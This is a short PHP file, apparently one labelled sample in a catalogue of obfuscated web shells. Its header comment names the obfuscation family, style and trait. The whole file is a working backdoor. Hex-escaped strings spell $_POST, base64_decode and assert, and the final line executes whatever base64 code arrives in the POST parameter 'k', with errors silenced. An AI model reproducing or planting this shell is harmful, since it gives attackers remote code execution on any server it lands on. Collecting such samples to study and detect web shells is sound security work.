<?php
/* Family: obfuscation/hex-escape
   Style: hex-escaped superglobal and evaluator
   Trait: superglobal name and base64_decode spelled with escapes, evaluated through assert */
$g = ${"\x5f\x50\x4f\x53\x54"};
$d = "\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65";
$e = "\x61\x73\x73\x65\x72\x74";
@$e($d($g["\x6b"]));
